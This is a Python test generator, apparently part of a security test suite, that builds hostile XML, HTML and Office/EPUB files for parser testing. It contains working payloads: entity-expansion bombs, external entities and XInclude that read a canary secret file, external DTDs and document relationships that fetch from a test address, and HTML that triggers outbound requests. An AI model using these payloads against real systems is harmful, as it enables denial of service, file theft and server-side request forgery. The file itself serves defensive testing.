"""XML that multiplies, draws in files, or asks for addresses; in bare files and inside documents."""

from collections.abc import Iterator

from makers import HostileFile, World
from makers.base import WORDS, docx, edited, epub, members, pptx, xlsx, zipped

_LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)  # fmt: skip
_QUADRATIC = f"<!DOCTYPE x [<!ENTITY a '{'h' * 100_000}'>]>"


def attacks(world: World) -> Iterator[HostileFile]:
    kind = "XML entities"
    secret = (world.canary / "secret.txt").as_uri()
    doctypes = {
        "laughs": (_LAUGHS, "&a9;"),
        "quadratic": (_QUADRATIC, "&a;" * 20_000),
        "file": (f"<!DOCTYPE x [<!ENTITY s SYSTEM '{secret}'>]>", "&s;"),
        "address": (f"<!DOCTYPE x [<!ENTITY s SYSTEM '{world.address}/entity'>]>", "&s;"),
        "parameter": (f"<!DOCTYPE x [<!ENTITY % p SYSTEM '{world.address}/dtd'>%p;]>", WORDS),
        "subset": (f"<!DOCTYPE x SYSTEM '{world.address}/outer.dtd'>", WORDS),
        "circle": ("<!DOCTYPE x [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", "&a;"),
    }
    for number, (what, (doctype, body)) in enumerate(doctypes.items()):
        carriers = list(_carriers(what, doctype, body).items())
        for name, data in carriers[number % 2 :: 2]:  # every other format, and the rest with the next entity
            yield HostileFile(kind=kind, name=name, why=f"an entity that is {what}", content=data)
    yield from _references(world, secret)


def _carriers(what: str, doctype: str, body: str) -> dict[str, bytes]:
    """The same DOCTYPE in front of everything that is XML; the entity stands in the text."""
    head = f'<?xml version="1.0"?>{doctype}'
    page = f"{head}<html xmlns='http://www.w3.org/1999/xhtml'><body><p>{body}</p></body></html>"
    return {
        f"{what}.svg": f"{head}<svg xmlns='http://www.w3.org/2000/svg'><text>{body}</text></svg>".encode(),
        f"{what}.xhtml": page.encode(),
        f"{what}.docx": edited(docx(), word__document=_in(docx(), "word/document.xml", doctype, body)),
        f"{what}.xlsx": edited(xlsx(), xl__worksheets__sheet1=_in(xlsx(), "xl/worksheets/sheet1.xml", doctype, body)),
        f"{what}.pptx": edited(pptx(), ppt__slides__slide1=_in(pptx(), "ppt/slides/slide1.xml", doctype, body)),
        f"{what}.epub": zipped(members(epub()) | {"one.xhtml": page.encode()}),
    }  # fmt: skip


def _in(archive: bytes, member: str, doctype: str, body: str) -> bytes:
    """A member with the DOCTYPE before its first element, and the entity in place of a word."""
    text = members(archive)[member].decode().replace("pelicans", body)
    declaration, end, rest = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
    return f"{declaration}{end}{doctype}{rest}".encode()


def _references(world: World, secret: str) -> Iterator[HostileFile]:
    kind = "documents that act"
    xi = "xmlns:xi='http://www.w3.org/2001/XInclude'"
    pictures = "".join(f"<img src='{target}'>" for target in (secret, f"{world.address}/a.png", "file:///dev/zero"))
    frames = f"<iframe src='{secret}'></iframe><object data='{world.address}/o'></object>"
    meta = f"<meta http-equiv=refresh content='0;url={world.address}/r'><base href='{world.address}'>"
    style = f"<style>@import url({world.address}/c.css)</style><link rel=stylesheet href='{world.address}/l.css'>"
    script = f"<script>fetch('{world.address}')</script>"
    page = f"<html><head>{meta}{style}</head><body>{pictures}{frames}{script}<p>{WORDS}</p></body></html>"
    for name, data, why in (
        ("include.xml", f"<a {xi}><xi:include href='{secret}' parse='text'/></a>".encode(), "XInclude"),
        (
            "style.xml",
            f"<?xml-stylesheet href='{world.address}/x.xsl'?><a>x</a>".encode(),
            "a stylesheet at an address",
        ),
        ("page.html", page.encode(), "every way for a page to fetch"),
        (
            "picture.svg",
            f"<svg><image href='{world.address}/s.png'/><use href='{secret}'/></svg>".encode(),
            "a drawing",
        ),
        ("template.docx", _related(world.address, "attachedTemplate"), "a template at an address"),
        ("picture.docx", _related(world.address, "image"), "a picture at an address"),
        ("file.docx", _related(secret, "image"), "a picture that is another file"),
    ):
        yield HostileFile(kind=kind, name=name, why=why, content=data)


def _related(target: str, what: str) -> bytes:
    parts, name = members(docx()), "word/_rels/document.xml.rels"
    relation = (
        '<Relationship Id="rId98" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{what}" Target="{target}"/></Relationships>'
    )
    return zipped(parts | {name: parts[name].replace(b"</Relationships>", relation.encode())})
